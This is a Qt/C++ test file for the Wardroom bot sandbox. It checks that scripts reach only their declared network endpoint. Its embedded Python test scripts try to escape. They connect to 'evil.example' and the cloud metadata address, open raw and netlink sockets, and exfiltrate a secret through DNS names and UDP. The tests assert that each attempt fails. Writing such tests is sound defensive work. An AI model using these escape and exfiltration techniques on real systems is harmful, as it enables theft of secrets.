// SPDX-FileCopyrightText: 2026 The Wardroom authors
// SPDX-License-Identifier: GPL-3.0-or-later
#include "bot/sandbox/sandbox.h"
#include "support/testmain.h"

#include <QCoroTask>
#include <QDir>
#include <QTcpServer>
#include <QTcpSocket>
#include <QTest>
#include <QUdpSocket>

using namespace wardroom;
using namespace wardroom::bot;
using namespace Qt::StringLiterals;

//! A script with a declared network, in the real sandbox: it reaches what it declared, and tries everything else.
class TstSandboxNetwork : public QObject
{
    Q_OBJECT

private:
    QString m_folder;
    SandboxJob m_job;
    std::unique_ptr<QTcpServer> m_place;
    std::unique_ptr<QTcpServer> m_other;

    static std::unique_ptr<QTcpServer> server(const QByteArray &answer)
    {
        auto made = std::make_unique<QTcpServer>();
        made->listen(QHostAddress::LocalHost);
        connect(made.get(), &QTcpServer::newConnection, made.get(), [server = made.get(), answer] {
            QTcpSocket *client = server->nextPendingConnection();
            server->setProperty("calls", server->property("calls").toInt() + 1);
            connect(client, &QTcpSocket::readyRead, client, [client, answer] {
                if (!client->readAll().contains("\r\n\r\n"))
                    return;
                client->write(answer);
                client->disconnectFromHost();
            });
        });
        return made;
    }

    //! Runs a script that finds PLACE and OTHER replaced by the two servers' ports, and a function through(host, port).
    QByteArray run(QByteArray script)
    {
        const QByteArray whole = "#!/usr/bin/python3\n"
                                 "import http.client, os, socket, sys\n"
                                 "proxy = os.environ.get('https_proxy', '').replace('http://', '').partition(':')\n"
                                 "def through(host, port, path='/'):\n"
                                 "    link = http.client.HTTPConnection(proxy[0], int(proxy[2] or 1), timeout=5)\n"
                                 "    link.set_tunnel(host, port)\n"
                                 "    try:\n"
                                 "        link.request('GET', path)\n"
                                 "        return link.getresponse()\n"
                                 "    except OSError as error: return str(error)\n" +
                                 script.replace("PLACE", QByteArray::number(m_place->serverPort()))
                                     .replace("OTHER", QByteArray::number(m_other->serverPort()));
        QFile file(m_folder + u"/script"_s);
        if (!file.open(QIODevice::WriteOnly) || file.write(whole) < 0)
            return "ERROR cannot write";
        file.setPermissions(QFile::Permissions(0x7755));
        file.close();
        m_job.argv = {u"script"_s, u"one word"_s};
        QByteArray all;
        Sandbox sandbox;
        const auto end = QCoro::waitFor(sandbox.run(m_job, [&](QByteArray line) { all += line + '\n'; }));
        return end ? all + end->errors : "ERROR " + end.error().message.toUtf8();
    }

private Q_SLOTS:
    void init()
    {
        m_folder = Sandbox::makeStagingFolder().value_or(QString());
        QVERIFY(!m_folder.isEmpty());
        m_other = server("HTTP/1.1 200 OK\r\nContent-Length: 5\r\n\r\nother");
        m_place =
            server("HTTP/1.1 302 Found\r\nLocation: http://127.0.0.1:" + QByteArray::number(m_other->serverPort()) +
                   "/\r\nContent-Length: 8\r\n\r\ndeclared");
        m_job = {};
        m_job.pluginFolder = m_folder;
        m_job.limits = {20, 256, 32, 256};
        m_job.network = {{u"127.0.0.1"_s, m_place->serverPort(), true}};
    }
    void cleanup() { QDir(m_folder).removeRecursively(); }

    void whatIsDeclaredIsReached()
    {
        const QByteArray said = run("print(through('127.0.0.1', PLACE).read().decode(), sys.argv[1:])\n");
        QCOMPARE(said, "declared ['one word']\n"_ba);
        QCOMPARE(m_place->property("calls").toInt(), 1);
    }

    void withoutADeclarationThereIsNoProxyAndNothingToReach()
    {
        m_job.network.clear();
        const QByteArray said = run("print(os.environ.get('https_proxy'), os.path.exists('/run/wardroom-gate'), "
                                    "through('127.0.0.1', PLACE))\n");
        QVERIFY2(said.startsWith("None False ") && !said.contains("declared"), said.constData());
    }

    void anotherHostOrPortIsRefusedAndOnTheRecord()
    {
        const QByteArray said = run("for host, port in (('127.0.0.1', OTHER), ('evil.example', 443), "
                                    "('169.254.169.254', 80), ('[::1]', PLACE)):\n"
                                    "    print('answer', through(host, port))\n");
        QCOMPARE(said.count("answer Tunnel connection failed: 403"), 4);
        QCOMPARE(said.count("Network: "), 4);
        QVERIFY2(said.contains("evil.example:443"), said.constData());
        QCOMPARE(m_other->property("calls").toInt(), 0);
    }

    void aRedirectLeadsNowhereElse()
    {
        const QByteArray said = run("answer = through('127.0.0.1', PLACE)\n"
                                    "where = answer.getheader('Location').split('/')[2].split(':')\n"
                                    "print('then', through(where[0], int(where[1])))\n");
        QVERIFY2(said.contains("then Tunnel connection failed: 403"), said.constData());
        QCOMPARE(m_other->property("calls").toInt(), 0);
    }

    void noSocketLeadsAroundTheProxy()
    {
        const QByteArray said =
            run("def attempt(name, call):\n"
                "    try: print(name, 'WORKED', call())\n"
                "    except OSError: print(name, 'failed')\n"
                "attempt('direct', lambda: socket.create_connection(('127.0.0.1', PLACE), 2))\n"
                "attempt('outside', lambda: socket.create_connection(('1.1.1.1', 53), 2))\n"
                "attempt('raw', lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1))\n"
                "attempt('packet', lambda: socket.socket(17, socket.SOCK_RAW, 3))\n"
                "attempt('netlink', lambda: socket.socket(16, socket.SOCK_RAW, 0))\n"
                "attempt('vsock', lambda: socket.socket(40, socket.SOCK_STREAM))\n"
                "print(sorted(os.listdir('/sys/class/net')) if os.path.exists('/sys/class/net') else 'no sys')\n"
                "print([line.split(':')[0].strip() for line in open('/proc/net/dev').readlines()[2:]])\n");
        QVERIFY2(!said.contains("WORKED"), said.constData());
        QCOMPARE(said.count("failed"), 6);
        QVERIFY2(said.contains("['lo']"), said.constData());
    }

    void namesAreToldToNoNameServer()
    {
        QUdpSocket listener; // a name server of this machine
        QVERIFY(listener.bind(QHostAddress::LocalHost));
        const QByteArray said =
            run("import threading\n"
                "try: print('WORKED', socket.getaddrinfo('secret.evil.example', 443))\n"
                "except OSError as error: print('failed')\n"
                "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
                "for where in (('127.0.0.1', DNS), ('127.0.0.53', 53), ('8.8.8.8', 53)):\n"
                "    try: print('sent', s.sendto(b'secret', where))\n"
                "    except OSError: print('failed')\n"_ba.replace("DNS", QByteArray::number(listener.localPort())));
        QVERIFY2(!said.contains("WORKED"), said.constData());
        QTest::qWait(50);
        QVERIFY2(!listener.hasPendingDatagrams(), "a datagram of the sandbox reached this machine");
    }

    void aSecretInARefusedNameIsNotToldByTheRecord()
    {
        m_job.secrets = {{3, "s3cret-of-the-house"_ba}};
        const QByteArray said = run("secret = os.read(3, 100).decode()\n"
                                    "through(secret + '.evil.example', 443)\n");
        QVERIFY2(said.contains("Network: ") && said.contains("[redacted].evil.example"), said.constData());
        QVERIFY(!said.contains("s3cret"));
    }

    void theRelayHoldsNothingOfTheScripts()
    {
        m_job.secrets = {{3, "s3cret-of-the-house"_ba}};
        const QByteArray said = run("import time\n"
                                    "os.read(3, 100)\n"
                                    "for pid in filter(str.isdigit, os.listdir('/proc')):\n"
                                    "    try: line = open(f'/proc/{pid}/cmdline').read()\n"
                                    "    except OSError: continue\n"
                                    "    if 'wardroom-relay' in line and int(pid) != os.getpid():\n"
                                    "        print('relay', sorted(os.readlink(f'/proc/{pid}/fd/{fd}').split(':')[0] "
                                    "for fd in os.listdir(f'/proc/{pid}/fd') if fd != '3' or True))\n");
        QVERIFY2(said.contains("relay ['socket']"), said.constData());
    }

    void whatItLeavesRunningEndsWithIt()
    {
        QElapsedTimer took;
        took.start();
        const QByteArray said = run("print('over')\n");
        QCOMPARE(said, "over\n"_ba);
        QVERIFY(took.elapsed() < 5000);
    }

    void observeHasNoNetworkToDeclare()
    {
        m_job.kind = SandboxKind::observe;
        QVERIFY(run("print('ran')\n").startsWith("ERROR"));
    }
};

WARDROOM_TEST(TstSandboxNetwork)
#include "tst_sandboxnetwork.moc"
